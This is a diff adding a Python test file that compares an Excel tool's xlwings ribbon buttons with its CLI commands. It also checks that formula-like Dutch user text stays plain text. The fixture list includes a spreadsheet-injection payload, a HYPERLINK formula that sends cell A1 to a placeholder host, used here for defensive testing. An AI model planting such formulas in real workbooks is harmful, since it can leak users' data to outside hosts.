@@ -1,0 +1,130 @@
+"""A button and the CLI can never disagree: each ribbon button, run on xlwings' remote engine,
+gives the same workbook content as the matching CLI command on the same file.
+
+File -> the JSON payload an xlwings client sends -> ``xw.Book(json=...)`` -> the button ->
+``book.json()`` actions -> replayed onto a copy of the file -> compared with the CLI's output.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+
+import pytest
+from openpyxl import load_workbook
+
+from mvo_xl import excel
+from mvo_xl.cli import main
+from tests.builders import variant, write_workbook
+from tests.xlwings_remote import apply_actions, ensure_remote_engine, payload_from_file
+
+xw = pytest.importorskip("xlwings")
+
+HOSTILE_TEXTS = ['=HYPERLINK("http://example.invalid/?x="&A1,"klik hier")', "+32 fietsenstallingen",
+                 "-20% energie", "@gemeente meer bomen", "=1+1"]
+
+BUTTONS = {
+    "group": (excel.group_wishes, lambda src, out: ["group", str(src), "-o", str(out)]),
+    "validate": (excel.validate, lambda src, out: ["validate", str(src), "--schrijf", str(out), "-q"]),
+    "plan": (excel.make_plan, lambda src, out: ["plan", str(src), "-o", str(out)]),
+}
+
+
+@pytest.fixture(autouse=True)
+def _license(monkeypatch):
+    monkeypatch.setenv("XLWINGS_LICENSE_KEY", "noncommercial")
+    ensure_remote_engine()
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory):
+    path = tmp_path_factory.mktemp("demo") / "demo.xlsx"
+    assert main(["demo", str(path), "-q"]) == 0
+    return path
+
+
+def hostile_workbook(path):
+    content = variant()
+    for wish, text in zip(content["wishes"], HOSTILE_TEXTS):
+        wish["Droombeeld"] = text
+        wish["Groep"] = wish["Groepslabel"] = ""
+    content["actions"][0]["Actie"] = HOSTILE_TEXTS[0]
+    content["objectives"][0]["Doelstelling"] = "=SOM(A1:A9) fietsroutes naar elke school tegen 2029"
+    return write_workbook(path, content)
+
+
+def _plain(value):
+    if isinstance(value, dt.datetime) and value.time() == dt.time():
+        return value.date()
+    if value == "":
+        return None
+    if isinstance(value, float) and value.is_integer():
+        return int(value)
+    return value
+
+
+def content(path) -> dict:
+    """Values and cell types of every visible sheet: what a user sees and copies."""
+    wb = load_workbook(path)
+    out = {}
+    for ws in wb.worksheets:
+        if ws.sheet_state != "visible":
+            continue
+        rows = [[(_plain(c.value), c.data_type == "f") for c in row] for row in ws.iter_rows()]
+        while rows and all(v is None for v, _ in rows[-1]):
+            rows.pop()
+        width = max((i + 1 for r in rows for i, (v, _) in enumerate(r) if v is not None), default=0)
+        out[ws.title] = [r[:width] + [(None, False)] * (width - len(r)) for r in rows]
+    return out
+
+
+def run_button(button, src, out):
+    book = xw.Book(json=payload_from_file(src))
+    button(book)
+    actions = book.json()["actions"]
+    return apply_actions(src, actions, out)
+
+
+@pytest.mark.parametrize("step", sorted(BUTTONS))
+@pytest.mark.parametrize("workbook", ["demo", "hostile"])
+def test_button_equals_cli(step, workbook, demo, tmp_path):
+    src = demo if workbook == "demo" else hostile_workbook(tmp_path / "hostile.xlsx")
+    button, cli_args = BUTTONS[step]
+    cli_out, button_out = tmp_path / "cli.xlsx", tmp_path / "button.xlsx"
+    main(cli_args(src, cli_out))
+    run_button(button, src, button_out)
+    expected, actual = content(cli_out), content(button_out)
+    assert sorted(actual) == sorted(expected)
+    for sheet in expected:
+        assert actual[sheet] == expected[sheet], f"{step} on {workbook}: sheet {sheet} differs"
+    for sheet in actual:
+        assert not any(is_formula for row in actual[sheet] for _v, is_formula in row), sheet
+
+
+def test_hostile_text_stays_text_after_every_button(tmp_path):
+    src = hostile_workbook(tmp_path / "in.xlsx")
+    current = src
+    for i, step in enumerate(("group", "validate", "plan")):
+        nxt = tmp_path / f"stap{i}.xlsx"
+        run_button(BUTTONS[step][0], current, nxt)
+        current = nxt
+    texts = set()
+    for ws in load_workbook(current).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                texts.add(cell.value)
+    assert set(HOSTILE_TEXTS) <= texts
+
+
+def test_a_user_error_becomes_a_dutch_message_box(tmp_path):
+    from openpyxl import Workbook
+
+    path = tmp_path / "vreemd.xlsx"
+    wb = Workbook()
+    wb.active.title = "Blad1"
+    wb.save(path)
+    book = xw.Book(json=payload_from_file(path))
+    excel.validate(book)
+    alerts = [a for a in book.json()["actions"] if a["func"] == "alert"]
+    assert len(alerts) == 1
+    assert "geen volledige MVO-werkmap" in str(alerts[0]["args"]) and "Droombeelden" in str(alerts[0]["args"])
